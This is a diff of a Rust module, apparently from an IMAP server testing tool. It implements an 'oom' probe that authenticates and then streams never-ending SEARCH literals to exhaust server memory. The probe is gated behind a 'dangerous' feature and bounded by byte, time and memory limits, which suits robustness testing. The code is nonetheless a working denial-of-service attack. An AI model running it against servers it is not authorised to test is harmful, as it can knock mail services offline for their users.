@@ -1,115 +1,230 @@
-use imap_next::{
-    client::{Client, Event, Options},
-    stream::Stream,
-};
-use imap_types::{
-    command::{Command, CommandBody},
-    mailbox::Mailbox,
-    response::{Status, StatusBody, StatusKind, Tagged},
-};
-use log::info;
-use tokio::{io::AsyncWriteExt, net::TcpStream};
-use tracing::{error, warn};
-
-pub(crate) async fn oom(host: &str, username: &str, password: &str, chunk_size: u32) {
-    let mut stream = Stream::insecure(TcpStream::connect(host).await.unwrap());
-    let mut client = Client::new(Options::default());
-
-    let _ = loop {
-        match stream.next(&mut client).await.unwrap() {
-            Event::GreetingReceived { greeting } => break greeting,
-            event => println!("unexpected event: {event:?}"),
-        }
-    };
+use std::{fmt, time::Duration};
 
-    client.enqueue_command(
-        Command::new(
-            "A1",
-            CommandBody::login(username.to_string(), password.to_string()).unwrap(),
-        )
-        .unwrap(),
-    );
+#[cfg(feature = "dangerous")]
+use imap_next::client::Event;
+#[cfg(feature = "dangerous")]
+use imap_types::response::Status;
+use serde::{Deserialize, Serialize};
+#[cfg(feature = "dangerous")]
+use tracing::{error, info, warn};
 
-    loop {
-        match stream.next(&mut client).await.unwrap() {
-            Event::CommandSent { .. } => {}
-            Event::StatusReceived {
-                status:
-                    Status::Tagged(Tagged {
-                        tag,
-                        body: StatusBody { kind, .. },
-                    }),
-            } if tag.as_ref() == "A1" => {
-                if kind == StatusKind::Ok {
-                    client.enqueue_command(
-                        Command::new(
-                            "A2",
-                            CommandBody::Select {
-                                mailbox: Mailbox::Inbox,
-                            },
-                        )
-                        .unwrap(),
-                    );
-                    break;
-                }
+#[cfg(feature = "dangerous")]
+use crate::{process, session::Session, transport::Tls};
 
-                error!("LOGIN failed");
-                return;
-            }
-            event => warn!(?event, "unexpected event"),
+/// Upper bound for each response during the setup (LOGIN and SELECT).
+#[cfg(feature = "dangerous")]
+const TIMEOUT: Duration = Duration::from_secs(30);
+
+/// How often the watched process is checked while waiting for the server (see [`Limits::pid`]).
+#[cfg(feature = "dangerous")]
+const WATCH_INTERVAL: Duration = Duration::from_millis(500);
+
+/// A literal chunk sent as part of the SEARCH command.
+#[derive(Debug, Deserialize, Serialize)]
+pub struct Chunk {
+    pub index: u64,
+    pub size: u32,
+}
+
+/// When the `oom` probe stops sending. Without limits, it only stops when the server reacts.
+#[derive(Clone, Debug, Default)]
+pub struct Limits {
+    /// Total bytes of literal data.
+    pub bytes: Option<u64>,
+    /// Time since connecting.
+    pub duration: Option<Duration>,
+    /// Local server process to watch (see [`Oom::max_rss`]).
+    pub pid: Option<u32>,
+    /// Resident memory of the watched process and its children, in bytes.
+    pub max_rss: Option<u64>,
+}
+
+/// Why the `oom` probe stopped.
+#[derive(Debug, Deserialize, Eq, PartialEq, Serialize)]
+#[serde(rename_all = "snake_case")]
+pub enum Stop {
+    /// The attack couldn't start (e.g., LOGIN failed).
+    Setup(String),
+    /// [`Limits::bytes`] reached.
+    Bytes,
+    /// [`Limits::duration`] reached.
+    Duration,
+    /// [`Limits::max_rss`] reached, with the resident memory of the process.
+    Memory(u64),
+    /// The server answered the SEARCH (e.g., with BAD or BYE).
+    Responded(String),
+    /// The server closed the connection.
+    Disconnected(String),
+    /// The watched process is gone (e.g., it crashed).
+    ProcessGone(String),
+}
+
+impl fmt::Display for Stop {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        match self {
+            Self::Setup(reason) => write!(f, "setup failed: {reason}"),
+            Self::Bytes => write!(f, "byte limit reached"),
+            Self::Duration => write!(f, "time limit reached"),
+            Self::Memory(rss) => write!(f, "server process uses {rss} byte(s)"),
+            Self::Responded(status) => write!(f, "server responded: {status}"),
+            Self::Disconnected(reason) => write!(f, "disconnected: {reason}"),
+            Self::ProcessGone(reason) => write!(f, "server process gone: {reason}"),
         }
     }
+}
 
-    loop {
-        match stream.next(&mut client).await.unwrap() {
-            Event::CommandSent { .. } => {}
-            Event::DataReceived { .. } => {}
-            Event::StatusReceived {
-                status:
-                    Status::Tagged(Tagged {
-                        tag,
-                        body: StatusBody { kind, .. },
-                    }),
-            } if tag.as_ref() == "A2" => {
-                if kind == StatusKind::Ok {
-                    break;
-                }
+#[derive(Debug, Deserialize, Serialize)]
+pub struct Oom {
+    /// Chunks the server asked for (and received).
+    pub chunks: Vec<Chunk>,
+    pub bytes_sent: u64,
+    /// Bytes the server asked for more after, i.e., accepted before it reacted.
+    pub bytes_accepted: u64,
+    /// Peak resident memory of the watched process tree (see [`Limits::pid`]), in bytes.
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub max_rss: Option<u64>,
+    pub stopped: Stop,
+}
 
-                error!("SELECT failed");
-                return;
+/// Send a never-ending SEARCH literal after authentication, until a limit is reached or the
+/// server reacts.
+///
+/// Only built with the `dangerous` feature, and only reachable through the `oom` probe, whose
+/// run checks the [`Guard`](crate::probe::Guard).
+#[cfg(feature = "dangerous")]
+pub(crate) async fn oom(
+    host: &str,
+    tls: Tls,
+    username: &str,
+    password: &str,
+    chunk_size: u32,
+    limits: &Limits,
+) -> Oom {
+    let mut result = Oom {
+        chunks: Vec::new(),
+        bytes_sent: 0,
+        bytes_accepted: 0,
+        max_rss: None,
+        stopped: Stop::Bytes,
+    };
+
+    let attack = attack(
+        host,
+        tls,
+        username,
+        password,
+        chunk_size,
+        limits,
+        &mut result,
+    );
+    let stopped = match limits.duration {
+        Some(duration) => tokio::time::timeout(duration, attack)
+            .await
+            .unwrap_or(Stop::Duration),
+        None => attack.await,
+    };
+    info!(%stopped, "oom stopped");
+    result.stopped = stopped;
+
+    result
+}
+
+#[cfg(feature = "dangerous")]
+async fn attack(
+    host: &str,
+    tls: Tls,
+    username: &str,
+    password: &str,
+    chunk_size: u32,
+    limits: &Limits,
+    result: &mut Oom,
+) -> Stop {
+    let mut session =
+        match Session::connect_and_select(host, tls, username, password, TIMEOUT).await {
+            Ok(session) => session,
+            Err(error) => {
+                error!(%error, "setup failed");
+                return Stop::Setup(error.to_string());
             }
-            Event::StatusReceived { .. } => {}
-            event => warn!(?event, "unexpected event"),
-        }
+        };
+
+    if let Err(error) = session.write_raw(b"A2 SEARCH").await {
+        return Stop::Disconnected(format!("write failed: {error}"));
     }
 
-    stream.stream_mut().write_all(b"A2 SEARCH").await.unwrap();
+    // Wake up regularly to check the process while the server is slow to ask for more.
+    if limits.pid.is_some() {
+        session.set_timeout(WATCH_INTERVAL);
+    }
 
     let data = b"A".repeat(chunk_size as usize);
 
     loop {
-        stream
-            .stream_mut()
-            .write_all(format!(" BODY {{{}}}\r\n", chunk_size).as_bytes())
-            .await
-            .unwrap();
+        if let Some(stop) = watch(limits, result) {
+            return stop;
+        }
+
+        if limits
+            .bytes
+            .is_some_and(|bytes| result.bytes_sent + u64::from(chunk_size) > bytes)
+        {
+            return Stop::Bytes;
+        }
+
+        let header = format!(" BODY {{{}}}\r\n", chunk_size);
+        if let Err(error) = session.write_raw(header.as_bytes()).await {
+            return Stop::Disconnected(format!("write failed: {error}"));
+        }
 
         loop {
-            match stream.next(&mut client).await.unwrap() {
-                Event::ContinuationRequestReceived { .. } => {
+            match session.next().await {
+                Ok(Some(Event::ContinuationRequestReceived { .. })) => {
                     info!("continuation received");
+                    // Asking for the next literal means the previous ones were read.
+                    result.bytes_accepted = result.bytes_sent;
 
-                    println!("Press ENTER to continue");
-                    {
-                        let mut line = String::new();
-                        std::io::stdin().read_line(&mut line).unwrap();
+                    if let Err(error) = session.write_raw(&data).await {
+                        return Stop::Disconnected(format!("write failed: {error}"));
                     }
 
-                    stream.stream_mut().write_all(&data).await.unwrap();
+                    result.chunks.push(Chunk {
+                        index: result.chunks.len() as u64,
+                        size: chunk_size,
+                    });
+                    result.bytes_sent += u64::from(chunk_size);
                     break;
                 }
-                event => warn!(?event, "unexpected event"),
+                Ok(Some(Event::StatusReceived {
+                    status: status @ (Status::Tagged(_) | Status::Bye(_)),
+                })) => {
+                    return Stop::Responded(format!("{status:?}"));
+                }
+                Ok(Some(event)) => warn!(?event, "unexpected event"),
+                // A server under memory pressure may be slow; `Limits::duration` bounds the wait.
+                Ok(None) => {
+                    if let Some(stop) = watch(limits, result) {
+                        return stop;
+                    }
+                }
+                Err(error) => return Stop::Disconnected(format!("read failed: {error}")),
             }
         }
     }
 }
+
+/// Check the watched process (if any). Returns why to stop.
+#[cfg(feature = "dangerous")]
+fn watch(limits: &Limits, result: &mut Oom) -> Option<Stop> {
+    let pid = limits.pid?;
+
+    match process::sample(pid) {
+        Ok(process::Sample { rss, .. }) => {
+            result.max_rss = result.max_rss.max(Some(rss));
+            limits
+                .max_rss
+                .is_some_and(|max_rss| rss >= max_rss)
+                .then_some(Stop::Memory(rss))
+        }
+        Err(error) => Some(Stop::ProcessGone(error.to_string())),
+    }
+}